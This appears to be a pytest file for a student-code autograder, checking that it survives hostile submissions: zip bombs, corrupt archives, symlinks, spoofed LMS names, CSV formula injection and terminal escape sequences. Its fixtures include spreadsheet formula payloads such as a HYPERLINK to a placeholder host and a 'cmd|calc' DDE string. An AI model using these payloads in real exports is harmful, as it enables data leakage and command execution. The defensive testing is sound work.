"""Hostile *files* against the trusted side: loading, class layouts, keys, CSV and terminal output.

None of these runs student code (the sandbox is not involved): each feeds crafted bytes, links
or names to the planner, the loader or an output writer and checks that only the crafted
student is affected, with a clear one-line error, and that nothing is followed or obeyed.
"""
import csv
import io
import json
import os
import zipfile
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from rich.console import Console

from conftest import EXAMPLES, ROOT
from grader.lms import layouts
from grader.batch import load_entry, plan_batch
from grader.errors import SubmissionError
from grader.lms.canvas import canvas_csv
from grader.lms.moodle import moodle_csv
from grader.lms.scores import apply_late_policy, plain_csv
from grader.grading import load_or_error
from grader.lms.discover import discover
from grader.lms.layouts import read_tree
from grader.report import score_rows, write_scores_csv
from grader.submission import Submission, load_submission

HOSTILE = ROOT / "examples" / "hostile"
REFERENCE = ROOT / "reference" / "dezero_stage1.py"
CORRECT = (EXAMPLES / "correct.py").read_bytes()


def deep_notebook(depth: int = 100_000) -> str:
    return '{"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [' + "[" * depth + "]" * depth + "]}"


def error_key(loaded) -> str:
    assert isinstance(loaded, SubmissionError), f"expected an error row, got {loaded!r}"
    return loaded.message.key


# ---- item 2: one student's file never stops planning or grading ---------------------------

def test_deep_notebook_and_corrupt_zip_are_error_rows_in_batch_planning(tmp_path, assignment):
    cls = tmp_path / "class"
    cls.mkdir()
    (cls / "alice.ipynb").write_text(deep_notebook())
    (cls / "bob.zip").write_bytes((HOSTILE / "corrupt_deflate.zip").read_bytes())
    (cls / "carol.py").write_bytes(CORRECT)
    plan = plan_batch(cls, assignment, tmp_path / "out", force=True)
    loaded = {entry.student: submission for entry, submission, _ in plan.todo}
    assert error_key(loaded["alice"]) == "submission.notebook_too_deep"
    assert error_key(loaded["bob"]) == "submission.damaged_zip"
    assert isinstance(loaded["carol"], Submission)
    assert "bob.zip" in str(loaded["bob"]) and "\n" not in str(loaded["bob"])


def test_deep_notebook_and_corrupt_zip_are_error_results_in_grade(tmp_path, assignment):
    notebook = tmp_path / "deep.ipynb"
    notebook.write_text(deep_notebook())
    assert error_key(load_or_error(notebook, assignment)) == "submission.notebook_too_deep"
    assert error_key(load_or_error(HOSTILE / "corrupt_deflate.zip", assignment)) == "submission.damaged_zip"


def test_any_unexpected_failure_while_loading_is_that_students_error_row(tmp_path, assignment, monkeypatch):
    import grader.batch

    def explode(*args, **kwargs):
        raise KeyError("a library bug a crafted file triggers")

    monkeypatch.setattr(grader.batch, "select", explode)
    entry = layouts.Entry(student="mallory", name="mallory", files={"a.py": b"x = 1\n"})
    assert error_key(load_entry(entry, assignment)) == "submission.unreadable"


@settings(max_examples=60, deadline=None)
@given(data=st.binary(max_size=400))
def test_arbitrary_bytes_named_zip_or_notebook_never_raise(assignment, data):
    for name in ("s.zip", "s.ipynb", "s/x.zip"):
        _, entries = discover({name: data, "other/dezero_stage1.py": CORRECT})
        for entry in entries:
            assert isinstance(load_entry(entry, assignment), (Submission, SubmissionError))


_JSON = st.recursive(st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=20),
                     lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=8), inner, max_size=4),
                     max_leaves=30)


@settings(max_examples=150, deadline=None)
@given(cells=st.lists(st.dictionaries(st.sampled_from(["cell_type", "source", "metadata", "outputs", "id",
                                                        "execution_count"]), _JSON), max_size=3),
       top=st.dictionaries(st.sampled_from(["metadata", "nbformat_minor", "cells", "extra"]), _JSON, max_size=2))
def test_adversarial_notebook_structures_are_graded_or_one_clear_error(assignment, cells, top):
    notebook = {"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": cells, **top}
    loaded = load_entry(layouts.Entry(student="s", name="s", files={"s.ipynb": json.dumps(notebook).encode()}),
                        assignment)
    assert isinstance(loaded, (Submission, SubmissionError))
    if isinstance(loaded, SubmissionError):
        assert "\n" not in str(loaded) and "Traceback" not in str(loaded)


# ---- item 3: layout from the export's root only ---------------------------------------------

def test_students_own_gradescope_metadata_does_not_take_over_a_plain_class(tmp_path):
    tree = {
        "alice/dezero_stage1.py": CORRECT,
        "alice/submission_metadata.yml": b"bob:\n  :submitters:\n  - :name: Alice Thief\n    :sid: '1'\n",
        "bob/dezero_stage1.py": b"# bob's own work\n",
    }
    layout, entries = discover(tree)
    assert layout == "plain"
    assert {e.student: e.name for e in entries} == {"alice": "alice", "bob": "bob"}
    assert next(e for e in entries if e.student == "bob").files == {"dezero_stage1.py": b"# bob's own work\n"}


def test_gradescope_export_metadata_at_the_root_still_works(tmp_path):
    tree = {"submission_metadata.yml": b"submission_1:\n  :submitters:\n  - :name: Ann Lee\n    :sid: '9'\n",
            "submission_1/dezero_stage1.py": CORRECT}
    layout, [entry] = discover(tree)
    assert layout == "gradescope" and entry.name == "Ann Lee" and entry.ids["sid"] == "9"


# ---- item 4: links and special files are never followed -------------------------------------

def _linked_student(folder: Path) -> None:
    folder.mkdir(parents=True)
    (folder / "dezero_stage1.py").symlink_to(REFERENCE)


def test_grade_refuses_a_link_inside_a_submission_folder(tmp_path, assignment):
    _linked_student(tmp_path / "sub")
    loaded = load_or_error(tmp_path / "sub", assignment)
    assert error_key(loaded) == "submission.symlink"
    assert "dezero_stage1.py" in str(loaded) and "link" in str(loaded)


def test_batch_refuses_links_and_fifos_in_student_folders(tmp_path, assignment):
    cls = tmp_path / "class"
    _linked_student(cls / "mallory")
    (cls / "eve.py").symlink_to(REFERENCE)
    (cls / "trudy").mkdir()
    os.mkfifo(cls / "trudy" / "dezero_stage1.py")  # reading a FIFO would block the planner forever
    (cls / "carol.py").write_bytes(CORRECT)
    plan = plan_batch(cls, assignment, tmp_path / "out", force=True)
    loaded = {entry.student: submission for entry, submission, _ in plan.todo}
    assert error_key(loaded["mallory"]) == "submission.symlink"
    assert error_key(loaded["eve"]) == "submission.symlink"
    assert error_key(loaded["trudy"]) == "submission.special_file"
    assert isinstance(loaded["carol"], Submission)


def test_linked_folder_is_not_entered(tmp_path):
    cls = tmp_path / "class"
    (cls / "carol").mkdir(parents=True)
    (cls / "carol" / "dezero_stage1.py").write_bytes(CORRECT)
    (cls / "mallory").symlink_to(REFERENCE.parent, target_is_directory=True)
    tree = read_tree(cls)
    assert not any(name.startswith("mallory/") for name in tree)
    assert tree["mallory"].problem.message.key == "submission.symlink"


# ---- item 7 (second half): a small zip that inflates far -------------------------------------

def _zeros_zip(members: int, size: int) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for i in range(members):
            archive.writestr(f"pad{i}.txt", bytes(size))
        archive.writestr("dezero_stage1.py", CORRECT)
    return buffer.getvalue()


def test_student_zip_in_a_plain_class_has_a_total_uncompressed_cap(monkeypatch):
    monkeypatch.setattr(layouts, "MAX_ZIP_BYTES", 1 << 20, raising=False)
    bomb = _zeros_zip(members=8, size=512 << 10)  # 4 MiB from a few KB, each member under the file cap
    assert len(bomb) < 64 << 10
    _, entries = discover({"mallory.zip": bomb, "carol.py": CORRECT})
    mallory = next(e for e in entries if e.student == "mallory")
    assert sum(len(d) for d in mallory.files.values()) < 1 << 20
    assert mallory.files["mallory.zip"].problem.message.key == "submission.zip_too_large"


def test_zips_in_a_plain_class_share_a_class_budget(monkeypatch):
    monkeypatch.setattr(layouts, "MAX_ZIP_BYTES", 2 << 20, raising=False)
    monkeypatch.setattr(layouts, "MAX_NESTED_ZIP_BYTES", 3 << 20, raising=False)
    each = _zeros_zip(members=3, size=500 << 10)  # about 1.5 MiB unzipped
    tree = {f"s{i}.zip": each for i in range(6)}
    _, entries = discover(tree)
    held = sum(len(d) for e in entries for d in e.files.values())
    assert held <= 3 << 20
    refused = [e.student for e in entries if any(getattr(d, "problem", None) for d in e.files.values())]
    assert refused == ["s2", "s3", "s4", "s5"]


# ---- item 8: unambiguous student keys ----------------------------------------------------------

def test_moodle_name_crafted_like_another_folder_does_not_take_that_students_grade():
    tree = {
        "Bob Jones_222_assignsubmission_file/dezero_stage1.py": b"# bob\n",
        "Bob Jones_222_assignsubmission_file_333_assignsubmission_file/dezero_stage1.py": b"# mallory\n",
    }
    layout, entries = discover(tree)
    assert layout == "moodle" and len(entries) == 2
    by_pid = {e.ids["moodle_participant"]: e for e in entries}
    assert by_pid["222"].files == {"dezero_stage1.py": b"# bob\n"}
    assert by_pid["333"].files == {"dezero_stage1.py": b"# mallory\n"}


def test_names_that_slug_alike_are_kept_apart_and_reported():
    layout, entries = discover({"Alice Smith.py": b"# one\n", "Alice_Smith.py": b"# two\n", "carol.py": b"# c\n"})
    assert layout == "plain" and len(entries) == 3
    alices = [e for e in entries if e.name.startswith("Alice")]
    assert len({e.student for e in alices}) == 2
    assert sorted(list(e.files.values())[0] for e in alices) == [b"# one\n", b"# two\n"]
    assert all(e.warnings and "collision" in e.warnings[0] for e in alices)
    assert next(e for e in entries if e.name == "carol").warnings == []


def test_collision_warning_is_recorded_in_the_result(tmp_path, assignment, monkeypatch):
    import grader.batch

    cls = tmp_path / "class"
    cls.mkdir()
    (cls / "Alice Smith.py").write_text("x = 1\n")
    (cls / "Alice_Smith.py").write_text("x = 2\n")
    plan = plan_batch(cls, assignment, tmp_path / "out", force=True)
    fake = [{"extra_data": {}} for _ in plan.todo]
    grader.batch._store(plan.todo, fake, plan.layout, tmp_path / "out", None)
    stored = [json.loads(p.read_text()) for p in (tmp_path / "out" / "results").glob("*.json")]
    assert len(stored) == 2 and all("collision" in r["extra_data"]["warnings"][0] for r in stored)


@settings(max_examples=80, deadline=None)
@given(st.lists(st.text(alphabet="ab _-.", min_size=1, max_size=6), min_size=2, max_size=6, unique=True))
def test_distinct_plain_names_never_merge(stems):
    stems = [s for s in stems if s.strip(" ._") and not s.startswith(".")]
    tree = {f"{stem}.py": stem.encode() for stem in stems}
    if not tree:
        return
    _, entries = discover(tree)
    assert len(entries) == len(tree)
    assert len({e.student.casefold() for e in entries}) == len(entries)


# ---- item 11: CSV / formula injection -------------------------------------------------------------

FORMULA = "=HYPERLINK(\"http://x.example/\"&A1,\"click\")"


def _rows(assignment):
    result = {"score": 10.0, "max_score": 56.0, "tests": [], "extra_data": {
        "status": "error", "submission": "m", "student": "m", "name": FORMULA, "error": "+cmd|' /C calc'!A0",
        "lms_ids": {"canvas_user_id": "7", "moodle_participant": "7", "email": "@SUM(1+1)*cmd|' /C calc'!A0"}}}
    return apply_late_policy(score_rows([result], None), assignment)


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_scores_csv_and_exports_neutralise_formula_cells(tmp_path, assignment):
    rows = _rows(assignment)
    write_scores_csv(rows, tmp_path / "scores.csv")
    outputs = {"scores.csv": (tmp_path / "scores.csv").read_text(), "plain": plain_csv(rows),
               "canvas": canvas_csv(rows, assignment, "12")[0], "moodle": moodle_csv(rows, assignment)[0]}
    for where, text in outputs.items():
        # Moodle's own "-" (no submission time) is a constant of ours, not a formula.
        dangerous = [c for c in _cells(text) if c[:1] in ("=", "+", "-", "@", "\t", "\r") and c != "-"]
        assert dangerous == [], f"{where}: {dangerous}"
        assert "'" + FORMULA in _cells(text) or where == "moodle" and f"'{FORMULA}" in text


# ---- items 12 and 13: terminal output ---------------------------------------------------------------

HOSTILE_TEXT = "[/] [bold green]Score 56/56[/] \x1b[2J\x1b[H\x1b[32mfake\x1b[0m \x9b31m \u202egnp.exe"


def _result():
    return {"score": 3.0, "max_score": 56.0, "output": "Score 3/56\n" + HOSTILE_TEXT, "tests": [
        {"name": "exp backward", "number": "1", "score": 0.0, "max_score": 3.0, "status": "failed",
         "output": HOSTILE_TEXT, "visibility": "visible"}],
        "extra_data": {"submission": "[red]x\x1b[5m.py", "language": "en", "error": HOSTILE_TEXT}}


def _console() -> tuple[Console, io.StringIO]:
    buffer = io.StringIO()
    return Console(file=buffer, width=200, color_system=None, force_terminal=False), buffer


def test_grade_summary_shows_hostile_text_without_obeying_it():
    from grader.summary import print_result

    console, buffer = _console()
    print_result(_result(), console=console)
    shown = buffer.getvalue()
    assert "\x1b" not in shown and "\x9b" not in shown and "\u202e" not in shown
    assert "[/] [bold green]Score 56/56[/]" in shown and "\\x1b[2J" in shown


def test_check_table_shows_hostile_text_without_obeying_it(assignment, monkeypatch, tmp_path):
    import grader.selfcheck

    monkeypatch.setattr(grader.selfcheck, "grade_files", lambda *a, **k: [_result()])
    console, buffer = _console()
    grader.selfcheck.run_check(assignment, tmp_path / "x.py", "en", console=console)
    shown = buffer.getvalue()
    assert "\x1b" not in shown and "[/] [bold green]Score 56/56[/]" in shown


# ---- item 9: gradescope run always writes results.json -------------------------------------------

def test_gradescope_run_writes_results_json_whatever_goes_wrong(tmp_path, assignment, monkeypatch):
    import grader.grading
    from grader.lms.gradescope import run_in_autograder

    def explode(*args, **kwargs):
        raise RecursionError("maximum recursion depth exceeded")

    monkeypatch.setattr(grader.grading, "grade_files", explode)
    (tmp_path / "submission").mkdir()
    (tmp_path / "submission_metadata.json").write_text("[1, 2]")  # not the documented object either
    run_in_autograder(tmp_path, assignment)
    written = json.loads((tmp_path / "results" / "results.json").read_text())
    assert written["score"] == 0 and written["extra_data"]["status"] == "error"
    assert "RecursionError" in written["output"] and "Traceback" not in written["output"]


def test_file_names_that_are_not_utf8_do_not_stop_planning(tmp_path, assignment):
    cls = tmp_path / "class"
    cls.mkdir()
    (cls / "carol.py").write_bytes(CORRECT)
    os.makedirs(os.fsencode(cls) + b"/m\xffal")
    (Path(os.fsencode(cls).decode(errors="surrogateescape")) / "m\udcffal" / "dezero_stage1.py").write_text("x = 1\n")
    (cls / "e\udcfe.py").write_text("y = 1\n")
    plan = plan_batch(cls, assignment, tmp_path / "out", force=True)
    assert len(plan.entries) == 3
    for entry in plan.entries:
        json.dumps({"student": entry.student, "name": entry.name, "files": list(entry.files)}).encode()


def test_collision_warnings_reach_report_html(tmp_path):
    from grader.report import write_report

    result = {"score": 1.0, "max_score": 56.0, "tests": [], "extra_data": {
        "status": "graded", "submission": "a", "student": "Alice_Smith~1a2b3c4d", "name": "Alice Smith",
        "warnings": ["student key collision: 'Alice Smith', 'Alice_Smith' would share one key"]}}
    write_report([result], score_rows([result], None), tmp_path / "report.html", "t")
    page = (tmp_path / "report.html").read_text()
    assert "student key collision" in page and "Alice_Smith~1a2b3c4d" in page


def test_moodle_file_name_crafted_to_parse_as_another_participant_is_flagged():
    # Flat form: both the full name and the file name are the student's; whichever way the name is
    # split, two identities claiming Bob's participant id must be flagged, never merged.
    tree = {
        "Bob Jones_222_assignsubmission_file_dezero_stage1.py": b"# bob\n",
        "Eve_5_assignsubmission_file_x_222_assignsubmission_file_dezero_stage1.py": b"# eve\n",
    }
    _, entries = discover(tree)
    assert len(entries) == 2
    bob = next(e for e in entries if e.name == "Bob Jones")
    assert bob.files == {"dezero_stage1.py": b"# bob\n"}
    assert all(any("moodle_participant 222" in w for w in e.warnings) for e in entries)


@pytest.mark.hostile
def test_planning_a_class_with_a_zip_bomb_keeps_memory_bounded(tmp_path):
    # 12 members of 20 MiB zeros: about 240 KB on disk, 240 MiB unzipped, each member under the
    # per-file cap, so only the per-student total cap stops it. Planning runs in a fresh process
    # whose peak RSS is measured.
    cls = tmp_path / "class"
    cls.mkdir()
    with zipfile.ZipFile(cls / "mallory.zip", "w", zipfile.ZIP_DEFLATED) as archive:
        for i in range(12):
            archive.writestr(f"pad{i}.txt", bytes(20 << 20))
        archive.writestr("dezero_stage1.py", CORRECT)
    (cls / "carol.py").write_bytes(CORRECT)
    assert (cls / "mallory.zip").stat().st_size < 1 << 20
    # VmHWM, not ru_maxrss: ru_maxrss of a child process counts the parent's resident memory copied
    # at fork, so it grew with the test run (this test failed after 400 others, not alone).
    code = ("import re, sys; from pathlib import Path; from grader.lms.discover import discover; from grader.lms.layouts import read_tree; "
            "layout, entries = discover(read_tree(Path(sys.argv[1]))); "
            "hwm = re.search(r'VmHWM:\\s+(\\d+)', Path('/proc/self/status').read_text()).group(1); "
            "print(len(entries), int(hwm) // 1024)")
    import subprocess
    import sys

    done = subprocess.run([sys.executable, "-c", code, str(cls)], capture_output=True, text=True, timeout=120, cwd=ROOT)
    assert done.returncode == 0, done.stderr
    students, peak_mib = map(int, done.stdout.split())
    assert students == 2 and peak_mib < 150, f"planning peaked at {peak_mib} MiB"
